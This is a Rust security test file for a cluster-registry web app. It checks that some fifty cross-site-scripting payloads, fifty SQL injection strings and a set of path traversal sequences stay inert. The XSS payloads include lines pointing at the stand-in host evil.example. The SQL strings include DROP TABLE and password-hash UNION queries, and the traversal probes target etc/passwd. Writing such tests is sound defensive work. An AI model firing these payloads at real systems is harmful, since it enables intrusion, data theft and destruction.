//! Text that would be more than text where somebody forgot that it is somebody else's.

use palm_registry::cluster::ClusterFile;
use palm_registry::logs::{LogMessages, LogOrigin};
use prost::Message;
use serde_json::json;

use crate::support::{Answer, Browser, Registry, escape, raw, until};

/// Each once as it is, and once after what ends whatever it stands in.
const SCRIPTS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=//evil.example><input name=password>",
    "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'/>",
    "onmouseover=alert(1) x=",
    "' onfocus='alert(1)' autofocus x='",
    "\" onfocus=\"alert(1)\" autofocus x=\"",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
    "{{7*7}}${7*7}{%7*7%}<%=7*7%>'-alert(1)-'",
];
const ENDS: &str = "'\"></textarea></pre></code></td></title></style></script>-->";

const STATEMENTS: [&str; 50] = [
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR 1=1 --",
    "' OR 1=1 #",
    "' OR 1=1 /*",
    "\" OR \"\"=\"",
    "') OR ('1'='1",
    "')) OR (('1'='1",
    "1 OR 1=1",
    "1; SELECT 1",
    "'; DROP TABLE users; --",
    "'; DROP TABLE clusters; --",
    "\"; DROP TABLE users; --",
    "'; DELETE FROM logs; --",
    "'; UPDATE users SET admin = 1; --",
    "'; INSERT INTO users (name) VALUES ('x'); --",
    "' UNION SELECT 1 --",
    "x' UNION SELECT password_hash FROM users --",
    "x' UNION ALL SELECT NULL, NULL, NULL --",
    "' AND 1=0 UNION SELECT name FROM sqlite_master --",
    "' AND (SELECT COUNT(*) FROM pg_user) > 0 --",
    "'||(SELECT password_hash FROM users LIMIT 1)||'",
    "' || pg_sleep(10) --",
    "'; SELECT pg_sleep(10); --",
    "' AND randomblob(1000000000) --",
    "'; ATTACH DATABASE '/tmp/x' AS x; --",
    "'; COPY users TO '/tmp/x'; --",
    "'; PRAGMA writable_schema = 1; --",
    "' LIKE '%",
    "%",
    "_",
    "%%",
    "%27 OR 1=1",
    "%2527",
    "\\",
    "\\'",
    "\\' OR 1=1 --",
    "''",
    "'''",
    "\"",
    "`",
    "[x]",
    "$1",
    "$2",
    "?",
    "?1",
    ":name",
    "@x",
    "NULL",
    "0x27",
];

/// The tags of a page with the names of their attributes, and where its links and forms lead: what text cannot change.
fn skeleton(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut quote = None;
        let end = after.find(|character| match (quote, character) {
            (None, '"' | '\'') => {
                quote = Some(character);
                false
            }
            (Some(open), _) => {
                if open == character {
                    quote = None;
                }
                false
            }
            (None, _) => character == '>',
        });
        let (tag, after) = after.split_at(end.unwrap_or(after.len()));
        let mut names = Vec::new();
        for (index, piece) in tag.split('"').enumerate() {
            if index % 2 == 0 {
                names.push(piece.trim().to_owned());
            } else if names.last().is_some_and(|name| name.ends_with("href=") || name.ends_with("action=")) {
                names.push(piece.split(['?', '&']).next().unwrap_or_default().to_owned());
            }
        }
        tags.push(names.join(" "));
        rest = after;
    }
    tags
}

/// Everything that shows text, with a word in all places where somebody may write one.
fn everything_with(word: &str) -> Vec<(&'static str, Answer)> {
    let registry = Registry::start();
    let mut answers = Vec::new();
    let mut nobody = Browser::new(&registry);
    nobody.get("/setup").ok();
    let fields = [("name", word), ("fullname", word), ("email", word), ("password", word), ("token", word)];
    answers.push(("the first-run page, refused", nobody.post("/setup", &fields)));
    let key = registry.admin(word);
    answers.push(("the sign-in page", nobody.get(&format!("/login?next={}", escape(word)))));
    answers.push((
        "the sign-in page, refused",
        nobody.post("/login", &[("name", word), ("password", word), ("next", word)]),
    ));

    let mut browser = Browser::signed_in(&registry, word);
    browser.get("/new_cluster").ok();
    let refused = browser.post("/new_cluster", &[("alias", word), ("description", word)]);
    answers.push(("a new cluster, refused", refused));
    // Not every word can stand in each place of a file.
    let section = word.replace(['[', ']'], "");
    let with = |script: &str| {
        format!("[{section}]\nScript = run {script}\n--x = _1\nRole = {}\n# {word}\n", word.replace('%', "%%"))
    };
    let file = if ClusterFile::parse(&with(word)).is_ok() { with(word) } else { with("x") };
    let made = browser.post("/new_cluster", &[("alias", word), ("key", word), ("description", &file)]);
    assert_eq!(made.status, 302, "{file}: {}", made.text());
    browser.get("/dashboard").ok();
    answers.push(("a new key", browser.post("/new_key", &[("name", word)])));
    answers.push(("a new token", browser.post("/new_token", &[("name", word), ("cluster", word)])));
    let user = [("fullname", word), ("email", word)];
    answers.push((
        "a new user, refused",
        browser.post("/new_user", &[&user[..], &[("name", word), ("password", "battery staple")]].concat()),
    ));
    let other = format!("{} 2", &word[..word.len().min(200)]);
    assert_eq!(
        browser.post("/new_user", &[&user[..], &[("name", &other), ("password", "battery staple")]].concat()).status,
        302
    );
    for path in ["/restart_instance", "/reset_cluster", "/delete_cluster", "/remove_token", "/lock_user"] {
        let strange = format!("{word}!");
        let fields = [
            ("cluster", strange.as_str()),
            ("confirm", &strange),
            ("instance", &strange),
            ("name", &strange),
            ("id", "1"),
        ];
        answers.push((path, browser.post(path, &fields)));
    }

    let cluster = escape(word);
    let (node, at) = ("67e55044-10b1-426f-9247-bb680e5fe0c8", "2026-11-25T15:00:00Z");
    let join = json!({"id": node, "ip": "127.0.0.1", "processors": 1, "ports_from": 5555, "runner": word, "host": word, "name": word});
    registry.post(&format!("/api/v1/clusters/{cluster}/nodes"), "", &join).ok();
    let report = json!([{"name": section, "state": "FATAL", "since": at, "reason": word, "stats": {word: word}}]);
    let change = json!([{"instance": word, "from": "RUNNING", "to": "FATAL", "at": at, "reason": word}]);
    let heartbeat = json!({"at": at, "instances": report, "events": change});
    registry.post(&format!("/api/v1/clusters/{cluster}/nodes/{node}/heartbeat"), "", &heartbeat).ok();
    let origin =
        LogOrigin { component: word.into(), instance: word.into(), level: word.into(), ..LogOrigin::default() };
    let body = LogMessages { messages: vec![word.to_owned()], origins: vec![origin] }.encode_to_vec();
    registry.send("POST", &format!("/logs?cluster={cluster}"), &[], &body).ok();

    until("the record of what was refused", || browser.get("/dashboard").ok().text().contains("sign-in refused"));
    let strange = escape(&format!("{word}!"));
    for (what, path) in [
        ("the clusters", "/dashboard".to_owned()),
        ("the cluster", format!("/view_cluster?cluster={cluster}")),
        ("no cluster", format!("/view_cluster?cluster={strange}")),
        ("the log", format!("/view_logs?cluster={cluster}")),
        (
            "the log, filtered",
            format!("/view_logs?cluster={cluster}&component={cluster}&instance={cluster}&stream={cluster}"),
        ),
        ("the log, refused", format!("/view_logs?cluster={cluster}&fr={cluster}&limit={cluster}")),
        ("nothing", format!("/{cluster}")),
    ] {
        answers.push((what, browser.get(&path)));
    }
    for (what, path) in [
        ("clusters_list", "/cluster?method=clusters_list".to_owned()),
        ("cluster_status", format!("/cluster?method=cluster_status&cluster={cluster}")),
        ("node_config", format!("/cluster?method=node_config&cluster={cluster}&node={cluster}")),
        ("no method", format!("/cluster?method={cluster}")),
        ("/logs", format!("/logs?cluster={cluster}")),
        ("/logs, refused", format!("/logs?cluster={cluster}&fr={cluster}")),
        ("clusters", "/api/v1/clusters".to_owned()),
        ("cluster", format!("/api/v1/clusters/{cluster}")),
        ("instances", format!("/api/v1/clusters/{cluster}/instances")),
        ("nodes", format!("/api/v1/clusters/{cluster}/nodes")),
        ("events", format!("/api/v1/clusters/{cluster}/events")),
        ("metrics", format!("/api/v1/clusters/{cluster}/metrics")),
        ("logs", format!("/api/v1/clusters/{cluster}/logs")),
        ("logs, refused", format!("/api/v1/clusters/{cluster}/logs?limit={cluster}")),
        ("tokens", format!("/api/v1/clusters/{cluster}/tokens")),
        ("cluster, refused", format!("/api/v1/clusters/{strange}")),
        ("cluster_reset", format!("/cluster?method=cluster_reset&cluster={cluster}")),
    ] {
        answers.push((what, registry.get(&path, &key)));
    }
    answers
}

#[test]
fn a_hundred_payloads_are_text_wherever_they_show() {
    let harmless = everything_with("a harmless word");
    assert!(harmless.iter().filter(|(_, answer)| answer.header("content-type").starts_with("text/html")).count() > 15);
    let payloads: Vec<String> =
        SCRIPTS.iter().flat_map(|script| [(*script).to_owned(), format!("{ENDS}{script}")]).collect();
    assert_eq!(payloads.len(), 100);
    let shown = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|scope| {
        for some in payloads.chunks(25) {
            let (harmless, shown) = (&harmless, &shown);
            scope.spawn(move || {
                for payload in some {
                    for ((what, answer), (_, expected)) in everything_with(payload).iter().zip(harmless) {
                        assert_eq!(answer.status, expected.status, "{payload} in {what}: {}", answer.text());
                        let kind = answer.header("content-type");
                        assert_eq!(kind, expected.header("content-type"), "{payload} in {what}");
                        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{payload} in {what}");
                        if kind.starts_with("text/html") {
                            let (page, plain) = (skeleton(answer.text()), skeleton(expected.text()));
                            assert_eq!(page, plain, "{payload} in {what}: {}", answer.text());
                            shown.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                        } else if !kind.starts_with("text/plain") {
                            assert_eq!(kind, "application/json", "{payload} in {what}");
                            answer.json();
                        }
                    }
                }
            });
        }
    });
    assert!(shown.into_inner() > 1_500);
}

#[test]
fn the_skeleton_of_a_page_shows_what_came_to_life() {
    let page = |text: &str| format!("<p class=\"x\" title=\"{text}\">{text}</p>");
    assert_eq!(skeleton(&page("a")), skeleton(&page("&#60;b&#62; &#34;")));
    for alive in ["<b>", "\" onclick=\"x", "</p>", "<"] {
        assert_ne!(skeleton(&page("a")), skeleton(&page(alive)), "{alive}");
    }
    let link = |address: &str| format!("<a href=\"{address}\">");
    assert_eq!(skeleton(&link("/a?b=c")), skeleton(&link("/a?b=d")));
    assert_ne!(skeleton(&link("/a?b=c")), skeleton(&link("javascript:x")));
}

#[test]
pub(crate) fn payloads_are_values_to_the_database() {
    let registry = Registry::start();
    let key = registry.user("ann");
    for payload in STATEMENTS {
        let path = format!("/api/v1/clusters/{}", escape(payload));
        assert_eq!(registry.get(&path, &key).status, 404, "{payload}");
        assert_eq!(registry.get(&format!("/logs?cluster={}", escape(payload)), "").ok().text(), "[]");
        assert_eq!(registry.get("/api/v1/clusters", payload).status, 401);
        let new = json!({"file": "[A]\nScript = a\n", "key": payload, "alias": payload});
        assert_eq!(registry.post("/api/v1/clusters", &key, &new).status, 201, "{payload}");
        let made = registry.get(&path, &key).ok().json();
        assert_eq!((made["key"].as_str(), made["alias"].as_str()), (Some(payload), Some(payload)));
        for filter in ["events?instance=", "events?kind=", "logs?component=", "logs?level=", "metrics?instance="] {
            let found = registry.get(&format!("{path}/{filter}{}", escape(payload)), &key).ok().json();
            assert_eq!(found, json!([]), "{filter}{payload}");
        }
    }
    assert_eq!(registry.get(&format!("/logs?cluster={}", escape("\0")), "").ok().text(), "[]");
    assert_eq!(registry.get("/api/v1/clusters", &key).ok().json().as_array().unwrap().len(), STATEMENTS.len());
}

#[test]
fn paths_lead_to_no_file() {
    let registry = Registry::start();
    let ways = [
        "../",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..\\",
        "..%5c",
        "%252e%252e%252f",
        "..%c0%af",
        "%c0%ae%c0%ae/",
        "....//",
    ];
    let mut tried = 0;
    for way in ways {
        for start in ["/", "/style.css/", "/static/", "/favicon.ico/", "/api/v1/"] {
            for (depth, file) in [(1, "Cargo.toml"), (1, "etc/passwd"), (6, "Cargo.toml"), (6, "etc/passwd")] {
                let request = format!("GET {start}{}{file} HTTP/1.0\r\nHost: localhost\r\n\r\n", way.repeat(depth));
                let status = raw(&registry, request.as_bytes());
                // What is no address at all is refused before it is looked for.
                assert!(status == 404 || (status == 400 && way.contains('\\')), "{status} of {request}");
                tried += 1;
            }
        }
    }
    assert_eq!(tried, 200);
}
